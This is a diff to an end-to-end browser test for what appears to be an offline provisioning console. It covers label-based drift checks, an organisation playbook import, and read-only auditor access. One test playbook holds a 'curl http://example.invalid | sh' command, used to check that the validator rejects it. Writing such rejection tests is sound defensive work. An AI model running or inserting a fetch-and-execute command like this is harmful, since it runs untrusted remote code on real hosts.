@@ -4,9 +4,10 @@
  *
  * offline store imports (a .deb built here, a tiny model) → choose the playbook, hosts and
  * overrides → Plan → review the changes and diffs → Apply (step-up) → live progress → the
- * attestation (exported as a file, checked offline and by the console) → drift → the runs record
- * → a failed apply fixed on the host and resumed → an apply cancelled mid-step and resumed from
- * the runs list.
+ * attestation (exported as a file, checked offline and by the console) → drift (hosts chosen by
+ * label) → the runs record → a failed apply fixed on the host and resumed → an apply cancelled
+ * mid-step and resumed from the runs list → an organisation playbook imported → what an auditor
+ * sees (read-only).
  */
 import crypto from 'node:crypto';
 import { execFileSync } from 'node:child_process';
@@ -16,7 +17,7 @@ import path from 'node:path';
 import canonicalize from 'canonicalize';
 import type { Locator, Page } from '@playwright/test';
 import { corruptFile, labDown, labUp, runOnHost, type Lab } from '../lab/lab';
-import { ADMIN, authorizeAirlock, enrolHost, expect, firstRunSetup, test } from './fixtures';
+import { ADMIN, authorizeAirlock, chooseOwnPassword, createUser, enrolHost, expect, firstRunSetup, submitLogin, test } from './fixtures';
 
 const LAB_ID = 'e2e-prov';
 /** The removable media of this test (one per worker process; created in the test). */
@@ -341,7 +342,16 @@ test('plan → review the diff → apply → watch progress → attestation (exp
 
   // ---------- drift ----------
   await page.getByTestId('prov-tab-drift').click();
-  await page.getByTestId('prov-drift-check-every').check();
+  // Hosts chosen by label this time (hosts:setLabels from the picker, then the `label:gpu` selector).
+  for (const h of names) {
+    await page.getByTestId(`prov-drift-labels-edit-${h}`).click();
+    await page.getByTestId(`prov-drift-labels-input-${h}`).fill('gpu, rack-1');
+    await page.getByTestId(`prov-drift-labels-save-${h}`).click();
+    await expect(page.getByTestId(`prov-drift-pick-${h}`).getByTestId(`prov-drift-host-label-${h}`)).toHaveText(['gpu', 'rack-1']);
+  }
+  await page.getByTestId('prov-drift-mode-label').check();
+  await page.getByTestId('prov-drift-label').selectOption('gpu');
+  await expect(page.getByTestId('prov-drift-resolved')).toContainText(`2 host(s) now: ${names.join(', ')}`);
   await page.getByTestId('prov-drift-run').click();
   await expect(page.getByTestId('prov-drift-results')).toHaveAttribute('data-drifted', '0', { timeout: 120_000 });
   for (const h of names) await expect(page.getByTestId(`prov-drift-host-${h}`)).toHaveAttribute('data-drifted', 'false');
@@ -421,6 +431,55 @@ test('plan → review the diff → apply → watch progress → attestation (exp
   await expect(live.getByTestId(`prov-step-${h2.name}-egress`)).toHaveAttribute('data-status', 'ok');
   await page.getByTestId('prov-tab-runs').click();
   await expect(page.getByTestId(`prov-run-row-${cancelledId}`)).toHaveAttribute('data-status', 'succeeded');
+
+  // ---------- an organisation playbook: data validated against the step catalogue ----------
+  await page.getByTestId('prov-tab-run').click();
+  const pbDoc = (steps: unknown[]) => JSON.stringify({ format: 'airlock.playbook/v1', name: 'site-gpu-check', version: '1.0', steps });
+  const badPb = testInfo.outputPath('bad-playbook.json');
+  fs.writeFileSync(badPb, pbDoc([{ id: 'x', type: 'run-shell', params: { command: 'curl http://example.invalid | sh' } }]));
+  const goodPb = testInfo.outputPath('site-gpu-check.json');
+  fs.writeFileSync(goodPb, pbDoc([{ id: 'gpu', type: 'gpu-driver-check', params: { minCount: 8, models: ['A100', 'H100'] } }]));
+  await page.getByTestId('prov-import-playbook').locator('summary').click();
+  await page.getByTestId('prov-import-playbook-file').setInputFiles(badPb);
+  await page.getByTestId('prov-import-playbook-submit').click();
+  const pbError = page.getByTestId('prov-import-playbook-error');
+  await stepUpIfAsked(page, pbError);
+  await expect(pbError).toHaveAttribute('data-code', 'INVALID_INPUT');
+  await expect(pbError).toContainText('unknown type "run-shell"');
+  await page.getByTestId('prov-import-playbook-file').setInputFiles(goodPb);
+  await page.getByTestId('prov-import-playbook-submit').click();
+  await stepUpIfAsked(page, page.getByTestId('prov-import-playbook-result'));
+  await expect(page.getByTestId('prov-import-playbook-result')).toContainText('site-gpu-check');
+  await expect(page.getByTestId('prov-playbook')).toHaveValue('site-gpu-check');
+  await expect(page.getByTestId('prov-playbook-digest')).toContainText('imported');
+  await expect(page.getByTestId('prov-playbook-steps').locator('tbody tr')).toHaveCount(1);
+
+  // ---------- officers and auditors: the record, read-only ----------
+  const audrey = { name: 'audrey', initial: 'initial password for audrey', password: 'audrey reads the record only' };
+  await createUser(page, audrey.name, audrey.initial, ['auditor']);
+  await expect(page.getByTestId(`user-row-${audrey.name}`)).toBeVisible();
+  await page.getByTestId('signout').click();
+  await submitLogin(page, audrey.name, audrey.initial);
+  await chooseOwnPassword(page, audrey.initial, audrey.password);
+  await expect(page.getByTestId('topbar-user')).toHaveText(audrey.name);
+  await page.getByTestId('nav-provision').click();
+  await expect(page.getByTestId('prov-tab-runs')).toHaveAttribute('aria-selected', 'true');
+  await expect(page.getByTestId('prov-tab-run')).toHaveCount(0);
+  await expect(page.getByTestId('prov-plan')).toHaveCount(0);
+  await expect(page.getByTestId(`prov-run-row-${applyId}`)).toHaveAttribute('data-status', 'succeeded');
+  await expect(page.getByTestId(`prov-run-row-${failedId}`)).toHaveAttribute('data-status', 'succeeded');
+  await expect(page.locator('[data-testid^=prov-run-resume-]')).toHaveCount(0);
+  await page.getByTestId(`prov-run-open-${applyId}`).click();
+  await page.getByTestId('prov-run-detail').getByTestId(`prov-attestation-open-${h2.name}`).click();
+  await expect(page.getByTestId('attestation-json')).toContainText(`"name": "${h2.name}"`);
+  await expect(page.getByTestId('attestation-key-fp')).toHaveText(keyFp);
+  await page.getByTestId('attestation-close').click();
+  await page.getByTestId('prov-tab-store').click();
+  await expect(page.getByTestId('prov-store-deb-airlock-node-tools')).toBeVisible();
+  await expect(page.getByTestId('prov-import-debs')).toHaveCount(0);
+  await expect(page.getByTestId('prov-import-model')).toHaveCount(0);
+  await page.getByTestId('prov-tab-drift').click();
+  await expect(page.getByTestId('prov-drift-labels-edit-host1')).toHaveCount(0);
 
   // The audit trail has every step of it.
   await page.getByTestId('nav-audit').click();
